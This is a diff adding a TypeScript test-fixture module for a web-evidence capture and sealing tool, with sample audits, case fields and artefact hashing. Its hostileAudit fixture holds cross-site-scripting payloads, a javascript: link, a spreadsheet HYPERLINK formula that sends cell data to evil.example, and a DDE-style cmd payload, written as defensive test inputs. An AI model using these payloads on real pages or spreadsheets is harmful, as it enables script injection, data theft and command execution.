@@ -1,0 +1,65 @@
+import { readFileSync } from 'node:fs';
+import type { AuditResult } from '@/rules/types';
+import { sha256Hex } from '@/evidence/seal/digest';
+import { auditDigest, EVIDENCE_SCHEMA, nextLink, sealRecord, type ArtefactEntry, type ChainHead, type CaseFields } from '@/evidence/seal/record';
+import type { CapturedEvidence } from '@/evidence/export/json';
+
+export function sampleAudit(): AuditResult {
+  return JSON.parse(readFileSync('tests/fixtures/audits/platform-home.json', 'utf8')) as AuditResult;
+}
+
+export const HOSTILE_TEXT = '<img src=x onerror=alert(1)>';
+export const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")';
+
+/** The sample audit with page text an attacker controls in every place a page can reach. */
+export function hostileAudit(): AuditResult {
+  const audit = sampleAudit();
+  audit.title = `${HOSTILE_TEXT}"'</title><script>alert(2)</script>`;
+  audit.url = 'https://evil.example/?q=<script>alert(3)</script>&x="y"';
+  audit.results[0].evidence[0].text = HOSTILE_TEXT;
+  audit.results[0].evidence[0].href = 'javascript:alert(4)';
+  audit.results[3].evidence[0].text = HOSTILE_FORMULA;
+  audit.results[3].evidence[1].text = '+86 10 1234 5678';
+  audit.results[3].evidence[2].text = '@SUM(1+1)*cmd|" /C calc"!A0';
+  audit.results[4].message = '-2+3 "quoted", comma\nnew line';
+  return audit;
+}
+
+/** A PNG signature followed by bytes: enough to be a distinct artefact. */
+export const PNG_BYTES = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4, 5]);
+export const MHTML_BYTES = new TextEncoder().encode('From: <Saved by Blink>\r\nSubject: 示例商城\r\nMIME-Version: 1.0\r\n\r\n<html>…</html>');
+
+export const CASE: CaseFields = { caseNumber: '京市监网〔2026〕12号', inspector: '王检查', task: '双十一网店专项检查' };
+
+/** A capture of `audit` chained after `head`, as the background makes one. */
+export async function captureOf(audit: AuditResult, head: ChainHead | null, caseFields = CASE): Promise<CapturedEvidence> {
+  const files: Array<[ArtefactEntry['kind'], string, string, Uint8Array]> = [
+    ['screenshot', 'screenshot.png', 'image/png', PNG_BYTES],
+    ['mhtml', 'page.mhtml', 'multipart/related', MHTML_BYTES],
+  ];
+  const artefacts = await Promise.all(
+    files.map(async ([kind, name, mediaType, bytes]) => ({
+      entry: { kind, name, mediaType, size: bytes.length, sha256: await sha256Hex(bytes) },
+      bytes,
+    })),
+  );
+  const sealed = await sealRecord({
+    schema: EVIDENCE_SCHEMA,
+    ...nextLink(head, () => 'chain-test-1'),
+    capturedAt: '2026-11-28T20:58:00.000+08:00',
+    url: audit.url,
+    title: audit.title,
+    userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0 Safari/537.36',
+    extensionVersion: '0.1.0',
+    rulesetVersion: audit.rulesetVersion,
+    caseFields,
+    auditSha256: await auditDigest(audit),
+    artefacts: artefacts.map((a) => a.entry),
+    absent: [],
+  });
+  return { sealed, artefacts };
+}
+
+export function headOf(capture: CapturedEvidence): ChainHead {
+  return { chainId: capture.sealed.record.chainId, sequence: capture.sealed.record.sequence, digest: capture.sealed.digest };
+}
